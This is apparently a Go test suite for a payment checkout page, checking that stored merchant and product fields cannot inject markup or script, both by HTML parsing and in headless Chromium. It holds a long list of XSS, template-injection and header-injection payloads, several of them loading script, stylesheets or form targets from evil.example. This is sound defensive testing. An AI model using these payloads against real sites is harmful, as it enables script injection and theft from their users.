package checkout

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	logs "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	pages "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"florin/internal/peer"
)

// payloads are texts that became script on some page somewhere: as markup, as
// an attribute, in a style, in an address, through odd encodings, in a template.
func payloads() []string {
	list := []string{
		`</bdi></p></section></main></title></style></script><script>alert(1)</script>`,
		`"'><script src=//evil.example/x.js></script>`, `<script>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
		`<script/x>alert(1)</script>`, "<script\n>alert(1)</script>", "<script\x00>alert(1)</script>", `<<script>alert(1);//<</script>`, `<script>alert(1)`,
		`<svg><script>alert(1)</script></svg>`, `<svg><script xlink:href=data:,alert(1)></script>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href=https://evil.example/>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=prefetch href=https://evil.example/>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`, `<form action=https://evil.example/><button>Pay</button></form>`, `<button formaction=javascript:alert(1)>x`,
		`<a href=javascript:alert(1)>x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<style>@import 'https://evil.example/x.css'</style>`, `<style>*{background:url(https://evil.example/)}</style>`,
		`<p style="background:url(https://evil.example/)">`, `<p style=x:expression(alert(1))>`, `<table background=https://evil.example/x.png>`, `<input type=image src=https://evil.example/x.png>`,
		`<video poster=https://evil.example/x.png>`, `<audio src=https://evil.example/x>`, `<img srcset=https://evil.example/x.png>`, `<portal src=https://evil.example>`,
		`{{.}}`, `{{printf "%s" "x"}}`, `${alert(1)}`, `#{alert(1)}`, `<%= 7*7 %>`, `{{constructor.constructor('alert(1)')()}}`, `[[${7*7}]]`, "`-alert(1)-`", `';alert(1)//`, `";alert(1)//`, `\';alert(1)//`,
		`\u003cscript\u003ealert(1)\u003c/script\u003e`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", `＜script＞alert(1)＜/script＞`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`,
		`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `//evil.example/x`, `https://evil.example"onload="alert(1)`, `https:evil.example`, `--><script>alert(1)</script><!--`, `]]><script>alert(1)</script>`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`, `<?xml version="1.0"?><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, "\u202e<script>alert(1)</script>", "\u2028alert(1)\u2029",
		"x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "x\nX-Injected: 1", `;script-src 'unsafe-inline' *`, `0;url=javascript:alert(1)`, `5;url=https://evil.example/`,
	}
	for _, event := range []string{"onerror", "onload", "onfocus autofocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter"} {
		for _, form := range []string{`<img src=x %s=alert(1)>`, `" %s="alert(1)`, `' %s='alert(1)`, `<svg/%s=alert(1)>`, `<details open %s=alert(1)>`} {
			list = append(list, fmt.Sprintf(form, event))
		}
	}
	return list
}

// fields are the texts of a View that somebody else wrote, or could have.
var fields = map[string]func(*View, string){
	"merchant":    func(v *View, s string) { v.Merchant = s },
	"name":        func(v *View, s string) { v.Product.Name = s },
	"description": func(v *View, s string) { v.Product.Description = s },
	"image":       func(v *View, s string) { v.Product.Image = s },
	"reference":   func(v *View, s string) { v.Reference = s },
	"return":      func(v *View, s string) { v.ReturnURL = s },
	"symbol": func(v *View, s string) {
		v.Asset.Symbol = s
		for i := range v.Offers {
			v.Offers[i].Asset.Symbol = s
		}
	},
	"network": func(v *View, s string) {
		v.Asset.Network = s
		for i := range v.Offers {
			v.Offers[i].Asset.Network, v.Offers[i].Asset.Standard, v.Offers[i].Asset.Code = s, s, s
		}
	},
	"transaction": func(v *View, s string) { v.TxID = s },
	"fingerprint": func(v *View, s string) { v.Fingerprint = s },
}

// poisoned are the states in which fields are shown, none of which moves on by itself.
func poisoned() map[string]View {
	all, picked := states(), map[string]View{}
	for _, name := range []string{"choose", "waiting", "partial", "paid", "expired-partial"} {
		v := all[name]
		v.ChangedAt = noon.Add(-time.Hour)
		v.Offers = slices.Clone(v.Offers)
		picked[name] = v
	}
	return picked
}

// skeleton is a page's elements with the names of their attributes, in order.
// The image and the way back are left out: they stand only where their address
// is a good one, which is checked apart.
func skeleton(body string) (shape, wrong []string) {
	root, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return nil, []string{err.Error()}
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		line := n.Data
		attributes := map[string]string{}
		for _, a := range n.Attr {
			attributes[a.Key] = a.Val
			line += " " + a.Key
			target := a.Val
			if a.Key != "href" && a.Key != "src" && a.Key != "action" && a.Key != "content" {
				continue
			}
			if _, refresh, found := strings.Cut(target, ";url="); found && a.Key == "content" {
				target = refresh
			}
			scheme, _, has := strings.Cut(target, ":")
			if has && scheme != "https" && scheme != "http" && scheme != "ethereum" || strings.HasPrefix(target, "//") {
				wrong = append(wrong, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
			}
			if a.Key == "action" && !strings.HasPrefix(a.Val, "/pay/") && !strings.HasPrefix(a.Val, "/payment/") && !strings.HasPrefix(a.Val, "/c/") {
				wrong = append(wrong, "a form leads to "+a.Val)
			}
		}
		switch {
		case n.Data == "img", attributes["id"] == "back":
			continue
		case n.Parent != nil && n.Parent.Data == "a" && n.Parent.FirstChild != n, n.Data == "path" && n.Parent.Parent.Data == "a":
			continue // the arrow of the way back
		}
		shape = append(shape, line)
	}
	return shape, wrong
}

// TestB04_StoredScript puts every payload into every field of every state and
// wants the page's elements unchanged.
func TestB04_StoredScript(t *testing.T) {
	list := payloads()
	if len(list) < 100 {
		t.Fatalf("only %d payloads", len(list))
	}
	for state, v := range poisoned() {
		b := newBench(t, Options{Images: true}, v)
		for field, set := range fields {
			clean := with(v, func(v *View) { v.Offers = slices.Clone(v.Offers); set(v, "x") })
			b.world.put(clean)
			want, _ := skeleton(b.get(pathOf(v)).Body.String())
			for _, payload := range list {
				b.world.put(with(v, func(v *View) { v.Offers = slices.Clone(v.Offers); set(v, payload) }))
				got := b.get(pathOf(v))
				shape, wrong := skeleton(got.Body.String())
				if diff := cmp.Diff(want, shape); diff != "" || len(wrong) > 0 {
					t.Errorf("%s, %s = %q: %q, and the page changes:\n%s", state, field, payload, wrong, diff)
				}
				if csp := got.Header().Get("Content-Security-Policy"); strings.Contains(csp, "unsafe") || strings.Count(csp, ";") != 8 {
					t.Errorf("%s, %s = %q changes the policy: %s", state, field, payload, csp)
				}
			}
		}
	}
}

// TestB04_SkeletonSeesScript is the control: a page that does carry a payload
// is told from a clean one.
func TestB04_SkeletonSeesScript(t *testing.T) {
	clean, _ := skeleton("<!doctype html><title>x</title><p>x</p>")
	for _, payload := range payloads()[:20] {
		if shape, _ := skeleton("<!doctype html><title>x</title><p>" + payload + "</p>"); cmp.Equal(clean, shape) {
			t.Errorf("%q goes unseen", payload)
		}
	}
}

// watch records what a tab must not do: open dialogs, run foreign script, ask
// other origins, run into its policy, throw.
type watch struct {
	mu     sync.Mutex
	origin string
	wrong  []string
}

func watchTab(t *testing.T, ctx context.Context, origin string) *watch {
	t.Helper()
	w := &watch{origin: origin}
	say := func(format string, args ...any) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.wrong = append(w.wrong, fmt.Sprintf(format, args...))
	}
	if err := chromedp.Listen(ctx, func(ev any) {
		switch e := ev.(type) {
		case *pages.EventJavascriptDialogOpening:
			say("dialog %q", e.Message)
			go func() {
				_, _ = chromedp.Call(ctx, pages.HandleJavaScriptDialog, pages.HandleJavaScriptDialogParams{Accept: true})
			}()
		case *network.EventRequestWillBeSent:
			if !strings.HasPrefix(e.Request.URL, w.origin+"/") && !strings.HasPrefix(e.Request.URL, "https://cdn.example/") && e.Request.URL != "about:blank" {
				say("request of %s", e.Request.URL)
			}
		case *logs.EventEntryAdded:
			if e.Entry.Source == logs.EntrySourceSecurity || strings.Contains(e.Entry.Text, "Content Security Policy") {
				say("log: %s", e.Entry.Text)
			}
		case *runtime.EventExceptionThrown:
			say("exception: %s", e.ExceptionDetails.Text)
		}
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, logs.Enable, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	return w
}

// take returns what was seen since the last time.
func (w *watch) take() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	wrong := w.wrong
	w.wrong = nil
	return wrong
}

// TestB04_StoredScriptInChromium opens pages whose every field is a payload.
func TestB04_StoredScriptInChromium(t *testing.T) {
	views := poisoned()
	states := []string{"choose", "waiting", "partial", "paid", "expired-partial"}
	b := newBench(t, Options{Images: true}, views["choose"])
	origin := serve(t, b)
	ctx := newTab(t)
	w := watchTab(t, ctx, origin)
	for i, payload := range payloads() {
		state := states[i%len(states)]
		v := views[state]
		v.Offers = slices.Clone(v.Offers)
		for _, set := range fields {
			set(&v, payload)
		}
		b.world.put(v)
		do(t, ctx, chromedp.Navigate(origin+pathOf(v)))
		if eval[int](t, ctx, `document.getElementsByTagName('script').length`) != 1 {
			t.Errorf("%s with %q: there is another script", state, payload)
		}
		if wrong := w.take(); len(wrong) > 0 {
			t.Errorf("%s with %q: %q", state, payload, wrong)
		}
	}
	// The control: the same tab sees all that when it happens.
	do(t, ctx, chromedp.Evaluate[chromedp.Void](`
		new Image().src = 'https://evil.example/x.png'
		document.body.setAttribute('style', 'color: red')`),
		chromedp.Evaluate[chromedp.Void](`alert(1)`))
	wrong := ""
	for _, want := range []string{"dialog", "Content Security Policy"} {
		peer.Eventually(t, peer.Patience, func() error { // the log comes from another process
			if wrong += strings.Join(w.take(), "\n"); !strings.Contains(wrong, want) {
				return fmt.Errorf("the watch did not see a %s: %s", want, wrong)
			}
			return nil
		})
	}
}
